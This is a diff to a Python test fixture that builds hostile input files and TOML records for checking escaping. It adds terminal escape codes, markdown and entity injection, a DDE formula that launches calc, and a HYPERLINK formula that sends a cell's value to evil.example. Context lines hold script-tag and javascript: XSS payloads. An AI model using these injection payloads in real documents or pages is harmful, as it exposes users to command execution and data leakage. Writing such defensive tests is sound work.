@@ -18,6 +18,23 @@ HOSTILE_TITLE = '<script>alert("x")</script><b>Bold</b> <img src="http://example
 RTL = "\u202eevil\u202c \u05e9\u05dc\u05d5\u05dd"
 ZERO_WIDTH = "zero\u200bwidth\u200d"
 LONG = "L" * 100_000
+# What a terminal would act on: colours, a bell, NUL, and a C1 "clear screen".
+ESCAPES = "\x1b[31mred\x1b[0m \x07bell \x00nul \x9b2Jcsi \x7fdel"
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+FORMULAS = ["+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tTAB=1", "\rCR=1", "＝1+1"]
+ENTITIES = "Tom &amp; Jerry &lt;b&gt; &#x202E;"
+TWO_LINES = "First line\n## Injected heading\r\n> injected quote"
+
+
+def toml_str(text: str) -> str:
+    """A TOML basic string holding ``text`` exactly (controls as \\u escapes)."""
+    out = []
+    for char in text:
+        if char in '"\\' or ord(char) < 0x20 or 0x7F <= ord(char) <= 0x9F:
+            out.append(f"\\u{ord(char):04x}")
+        else:
+            out.append(char)
+    return '"' + "".join(out) + '"'
 
 
 def hostile_source(folder: Path) -> Path:
@@ -27,10 +44,17 @@ def hostile_source(folder: Path) -> Path:
         f"{HOSTILE_TITLE}\n\n"
         f"On 1 May 2019 a meeting called {HOSTILE_TITLE} took place in <style>body{{}}</style>.\n\n"
         f'The link <a href="javascript:alert(1)">click</a> and {RTL} and {ZERO_WIDTH}.\n\n'
-        f"{LONG}\n"
+        f"{LONG}\n\n"
+        f"On 2 June 2019 the {ESCAPES} meeting took place.\n\n"
+        f"Formulas: {FORMULA} and more.\n"
     )
     (folder / "hostile.txt").write_text(text, encoding="utf-8")
     title_in_toml = HOSTILE_TITLE.replace('"', '\\"')
+    formula_records = "".join(
+        f'\n[[record]]\nid = "event/2019-07-0{n}-formula"\nkind = "meeting"\n'
+        f'title = {toml_str(text)}\ndate = "2019-07-0{n}"\nquote = "Formulas:"\n'
+        for n, text in enumerate(FORMULAS, 1)
+    )
     toml = f'''
 [document]
 id = "hostile"
@@ -64,6 +88,34 @@ title = "Long"
 date = "2019-05-02"
 quote = "{LONG}"
 
+[[record]]
+id = "event/2019-06-02-escapes"
+kind = "meeting"
+title = {toml_str("Escapes " + ESCAPES)}
+date = "2019-06-02"
+quote = {toml_str("On 2 June 2019 the " + ESCAPES + " meeting")}
+
+[[record]]
+id = "event/2019-06-03-formula"
+kind = "meeting"
+title = {toml_str(FORMULA)}
+date = "2019-06-03"
+quote = {toml_str(FORMULA)}
+
+[[record]]
+id = "event/2019-06-04-entities"
+kind = "meeting"
+title = {toml_str(ENTITIES)}
+date = "2019-06-04"
+quote = "Formulas:"
+
+[[record]]
+id = "event/2019-06-05-two-lines"
+kind = "meeting"
+title = {toml_str(TWO_LINES)}
+date = "2019-06-05"
+quote = "Formulas:"
+{formula_records}
 [[link]]
 from = "event/2019-05-01-hostile"
 to = "agency/javascript"
